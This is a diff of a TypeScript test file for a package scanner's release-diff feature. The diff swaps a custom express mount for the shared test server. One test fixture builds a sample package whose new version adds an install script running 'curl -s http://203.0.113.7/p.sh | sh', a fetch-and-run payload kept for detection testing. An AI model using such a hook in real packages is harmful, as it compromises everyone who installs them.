@@ -1,56 +1,22 @@
 // Release diffs end to end on real release pairs from the corpus (read as bytes, never run) and a tiny package built in memory that gains an install script.
 import { readFileSync } from 'node:fs';
-import express, { type RequestHandler } from 'express';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { DiffResult, DiffSummary, ReleaseDiff } from '../../core/contracts/pkgscan-diffs.js';
 import type { PageOf, Role, SecurityEvent } from '../../core/contracts/pkgscan.js';
-import { VitrineError } from '../../core/errors.js';
-import { errorHandler, notFound, requestId, route } from '../../core/http/index.js';
-import { listen, type Listening } from '../../core/http/server.js';
 import { corpusPath, hasCorpora } from '../../../test/corpora.js';
-import { hasPermission } from '../auth/roles.js';
-import type { Platform } from '../platform.js';
 import { scanDeps } from '../scans/deps.js';
 import { importArchive } from '../sources/store.js';
 import { tgz } from '../sources/testkit.js';
 import { call, sessionsByRole, startServer, type Session, type TestServer } from '../testutil.js';
 import { diffReleases } from './diff.js';
-import { diffRoutes } from './http.js';
 import { diffText } from './text.js';
 
 const json = async <T>(r: Response): Promise<T> => (await r.json()) as T;
 
-/** The diff routes as the service will mount them (until the lead adds them to the route table): bearer sign-in, permission, the one error shape. */
-function mount(p: Platform): express.Express {
-  const app = express();
-  app.use(requestId());
-  app.use(express.json({ limit: '64kb' }));
-  for (const def of diffRoutes(p, scanDeps(p))) {
-    const auth: RequestHandler = (req, res, next) => {
-      const h = req.headers.authorization;
-      if (h === undefined || !h.startsWith('Bearer ')) {
-        next(new VitrineError('unauthorized', 'authentication required'));
-        return;
-      }
-      p.auth.authenticate(h.slice(7)).then((user) => {
-        if (def.access !== 'authenticated' && def.access !== 'public' && def.access !== 'refresh_cookie' && def.access !== 'metrics' && !hasPermission(user.role, def.access)) next(new VitrineError('forbidden', 'no'));
-        else {
-          res.locals['user'] = user;
-          next();
-        }
-      }, next);
-    };
-    app[def.method](`/api/v1${def.path}`, auth, route((req, res) => def.handler(req, res, res.locals['user'] as Parameters<typeof def.handler>[2])));
-  }
-  app.use(notFound());
-  app.use(errorHandler());
-  return app;
-}
 
 describe.skipIf(!hasCorpora())('release diffs', () => {
   let s: TestServer;
   let by: Record<Role, Session>;
-  let local: Listening;
   let api: string;
 
   const load = (file: string): void => {
@@ -73,11 +39,9 @@ describe.skipIf(!hasCorpora())('release diffs', () => {
       'package/scripts/setup.js': "const cp = require('child_process');\ncp.execSync('curl -s http://203.0.113.7/p.sh | sh');\n",
     });
     for (const [b, f] of [[v1, 'tiny-gains-hook-1.0.0.tgz'], [v2, 'tiny-gains-hook-1.1.0.tgz']] as const) importArchive(s.platform.db, s.platform.dataDir, b, { filename: f, source: 'import', actor: 'system' });
-    local = await listen(mount(s.platform), { port: 0 });
-    api = `${local.url}/api/v1`;
+    api = s.api;
   }, 120_000);
   afterAll(async () => {
-    await local.close();
     await s.close();
   });
 
